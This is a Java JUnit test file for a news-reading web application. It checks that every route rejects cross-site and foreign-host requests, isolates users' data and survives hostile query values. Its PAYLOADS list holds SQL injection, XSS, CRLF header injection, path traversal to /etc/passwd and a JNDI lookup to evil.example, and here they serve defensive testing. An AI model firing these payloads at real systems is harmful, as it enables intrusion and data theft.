package org.skep.web;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.TreeSet;
import java.util.regex.Pattern;
import org.jsoup.Jsoup;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.skep.access.Scope;
import org.skep.model.Derived;
import org.skep.model.LogEntry;
import org.skep.model.StoryChange;
import org.skep.reading.MuteView;
import org.skep.store.Arriving;
import org.skep.store.Articles;
import org.skep.store.StoredRows;
import org.skep.store.UserRows;

/** What every address keeps to, also the one added last: specs "security", sections 1 and 4. */
class EveryRouteTest {
  private static final String PASSWORD = "herring under the quay";
  private static final Path SOURCES = Path.of("src/main/java/org/skep/web");

  /** A form with all the fields there are, meant to change as much as it can. */
  private static final String EVERYTHING =
      "read=0&star=0&in=&undo=1&what=hide&do=delete&name=x&text=x&url=https://x.example/&other=8"
          + "&file=x&input=x&old=x&password=x&scope=write&theme=dark&title=x&folder=x&next=/";

  /** What a query may hold that a query, a statement or a page could take for its own. */
  private static final List<String> PAYLOADS =
      List.of(
          "' OR 1=1 --",
          "\"; DROP TABLE article; --",
          "1) UNION SELECT password FROM user --",
          "feed:1 OR 1=1",
          "outlet:' OR ''='",
          "folder:%' ESCAPE '%",
          "%_%",
          "\0",
          "-1",
          "9223372036854775808",
          "99999999999999999999999999",
          "1e308",
          "NaN",
          "0-999999999",
          "2026-13-45T99:99:99Z",
          "<script>alert(1)</script>",
          "\"'><img src=x onerror=alert(1)>",
          "javascript:alert(1)",
          "x\r\nSet-Cookie: skep=evil",
          "../../../../etc/passwd",
          "${jndi:ldap://evil.example/}",
          "{{7*7}}",
          "((((((((((",
          "\"",
          "*:*",
          "[* TO *]",
          "said:\"a AND speaker:(",
          "NOT NOT -",
          "a~99 b^99 /(a+)+$/",
          "\ud800",
          "\u202eevil",
          "A".repeat(8_000),
          "( ".repeat(4_000));

  @TempDir private Path directory;
  private RunningSite site;
  private long article;

  @BeforeEach
  void start() throws IOException {
    site = new RunningSite(directory);
    var analysis = Articles.article("https://a.example/1", "Lantern", "The lantern is lit.");
    article = analysis.article().id();
    site.store.change(tx -> {
      tx.articles().arrive(Arriving.of(analysis, null), Articles.NOON);
      long seq = tx.log().last();
      var opened = List.<StoryChange>of(new StoryChange.Opened(article, article));
      tx.derived()
          .apply(
              new Derived(seq, List.of(), List.of(), List.of(), opened),
              new LogEntry.PageArrived(seq, Articles.NOON, analysis),
              "test");
    });
  }

  @AfterEach
  void stop() {
    site.close();
  }

  private List<Routes.Route> routes(String method) {
    return site.site.routes().all().stream()
        .filter(route -> route.method().equals(method))
        .toList();
  }

  /** Of what there is: the article, and the story that has its number. */
  private String path(Routes.Route route) {
    return RunningSite.example(route.pattern().replace("{id}", "" + article));
  }

  @Test
  void aForeignHostIsRefused() throws Exception {
    var form = site.form("/settings", "");
    var before = StoredRows.all(directory);
    for (Routes.Route route : site.site.routes().all()) {
      for (String host :
          List.of("evil.example", "127.0.0.1.evil.example", "a.".repeat(5_000) + "localhost")) {
        String body = EVERYTHING + "&token=" + form.token();
        String answer =
            site.raw(
                "%s %s HTTP/1.1\r\nHost: %s\r\nOrigin: http://evil.example\r\nCookie: %s\r\n"
                        .formatted(route.method(), path(route), host, form.cookie())
                    + "Content-Type: application/x-www-form-urlencoded\r\nContent-Length: %d\r\n"
                        .formatted(body.length())
                    + "Connection: close\r\n\r\n"
                    + body);
        assertThat(answer).as(route.pattern() + " " + host).startsWith("HTTP/1.1 403");
      }
    }
    assertThat(StoredRows.all(directory)).isEqualTo(before);
  }

  @Test
  void aChangeIsMadeWhenOneOfOurPagesAskedForItAndNeverForAnotherSite() throws Exception {
    var form = site.form("/settings", "");
    var before = StoredRows.all(directory);
    List<Map<String, String>> foreign =
        List.of(
            Map.of(),
            Map.of("Origin", "https://evil.example"),
            Map.of("Origin", site.origin() + "9"),
            Map.of("Origin", "null", "Sec-Fetch-Site", "cross-site"),
            Map.of("Referer", "https://evil.example/"),
            Map.of("Sec-Fetch-Site", "cross-site"),
            Map.of("Sec-Fetch-Site", "same-site"));
    for (Routes.Route route : routes("POST")) {
      boolean hub = route.pattern().startsWith("/push/"); // known by its path and its signature
      for (var headers : foreign) {
        var all = new HashMap<>(headers);
        all.put("Cookie", form.cookie());
        var answer = site.post(path(route), all, EVERYTHING + "&token=" + form.token());
        assertThat(answer.statusCode())
            .as(route.pattern() + " " + headers)
            .isEqualTo(hub ? 404 : 403);
      }
    }
    assertThat(StoredRows.all(directory)).isEqualTo(before);
    assertThat(site.newsroom.corrected()).isEmpty();
    for (Routes.Route route : routes("POST")) {
      assertThat(site.post(path(route), form, EVERYTHING).statusCode())
          .as(route.pattern())
          .isIn(200, 303, 403, 404)
          .isNotEqualTo(List.of("/setup", "/login").contains(route.pattern()) ? 0 : 403);
    }
    assertThat(StoredRows.all(directory)).as("the same with our own page").isNotEqualTo(before);
  }

  @Test
  void lookingChangesNothing() throws Exception {
    var before = StoredRows.all(directory);
    for (Routes.Route route : routes("GET")) {
      site.get(path(route) + "?" + EVERYTHING);
      site.send("HEAD", path(route), Map.of(), "");
    }
    assertThat(StoredRows.all(directory)).isEqualTo(before);
    assertThat(site.newsroom.corrected()).isEmpty();
  }

  @Test
  void noOtherSitesScriptMayAsk() throws Exception {
    for (Routes.Route route : site.site.routes().all()) {
      for (String method : List.of("OPTIONS", "GET")) {
        var answer =
            site.send(
                method,
                path(route),
                Map.of("Origin", "https://evil.example", "Access-Control-Request-Method", "POST"),
                "");
        assertThat(answer.headers().map().keySet())
            .as(route.pattern())
            .noneMatch(name -> name.startsWith("access-control"));
        if (method.equals("OPTIONS")) {
          assertThat(answer.statusCode()).as(route.pattern()).isIn(403, 405);
        }
      }
    }
  }

  @Test
  void noQueryBreaksAPageOrRunsInIt() throws Exception {
    var before = StoredRows.all(directory);
    Set<String> names = parameters();
    assertThat(names).contains("q", "in", "before", "at", "hub.topic");
    for (Routes.Route route : routes("GET")) {
      for (String payload : PAYLOADS) {
        for (String name : names) {
          harmless(route, name + "=" + Answer.encoded(payload));
        }
        harmless(route, String.join("=" + Answer.encoded(payload) + "&", names) + "=x");
        harmless(route, Answer.encoded(payload));
      }
    }
    assertThat(StoredRows.all(directory)).isEqualTo(before);
  }

  private void harmless(Routes.Route route, String query) {
    var visit =
        new Visit(
            "GET",
            path(route),
            query,
            Map.of("host", "localhost"),
            Map.of(),
            Map.of(),
            "127.0.0.1");
    Answer answer = site.site.answer(site.site.identified(visit));
    String where = route.pattern() + "?" + query;
    assertThat(answer.status()).as(where).isIn(200, 303, 404);
    assertThat(answer.headers().values()).as(where).noneMatch(value -> value.contains("\n"));
    if (answer.type().startsWith("text/html")) {
      var page =
          Jsoup.parse(new String(answer.body(), StandardCharsets.UTF_8), "http://localhost/");
      assertThat(page.select("script:not([src]), [onerror], a[href^=javascript], img[src=x]"))
          .as(where)
          .isEmpty();
    }
  }

  /** Every name that some page asks a query for, read from the sources. */
  private static Set<String> parameters() throws IOException {
    var names = new TreeSet<String>();
    try (var files = Files.list(SOURCES)) {
      for (Path file : files.toList()) {
        Pattern.compile("\\.query\\(\"([^\"]+)\"\\)")
            .matcher(Files.readString(file))
            .results()
            .forEach(found -> names.add(found.group(1)));
      }
    }
    return names;
  }

  @Test
  void aSecondReaderNeitherSeesNorChangesWhatTheFirstHas() throws Exception {
    site.access.addUser("anna", PASSWORD);
    site.access.addUser("ben", PASSWORD);
    site.reading.marking().mark(article, true, true);
    site.reading.marking().mute(MuteView.Kind.WORD, "lottery", true);
    site.access.addToken(UserRows.READER, "annas", Scope.READ, null);
    site.access.apps().add(UserRows.READER, "annas phone");
    site.signIn("anna", PASSWORD);
    var annas = StoredRows.of(directory, UserRows.READER);
    assertThat(annas.keySet())
        .contains("user_article", "user_mute", "session", "token", "app_password");

    for (Routes.Route route : routes("POST")) {
      for (String kind : List.of("word", "outlet")) {
        for (int id = 1; id <= 3; id++) { // of sessions, tokens and passwords: rows are numbered
          String ben = site.signIn("ben", PASSWORD);
          String body =
              EVERYTHING + "&kind=" + kind + "&value=lottery&article=" + article + "&days=30";
          site.post(
              RunningSite.example(route.pattern().replace("{id}", "" + id)),
              site.form("/settings", ben),
              body);
          if (!route.pattern().contains("{id}")) {
            break;
          }
        }
      }
    }

    assertThat(StoredRows.of(directory, UserRows.READER)).isEqualTo(annas);
    String ben = site.signIn("ben", PASSWORD);
    assertThat(site.get("/river?show=starred", ben).body()).doesNotContain("Lantern");
    assertThat(site.get("/settings", ben).body()).doesNotContain("lottery", "annas");
  }

  @Test
  void aStrangerFillsNoMemory() throws Exception {
    site.access.addUser("anna", PASSWORD);
    String much = "name=" + "x".repeat(Body.STRANGERS_BYTES_MAX);
    for (Routes.Route route : routes("POST")) {
      assertThat(site.post(path(route), Map.of("Origin", site.origin()), much).statusCode())
          .as(route.pattern())
          .isEqualTo(413);
    }
    String anna = site.signIn("anna", PASSWORD);
    assertThat(site.post("/marks", site.form("/settings", anna), much).statusCode()).isEqualTo(303);
  }
}
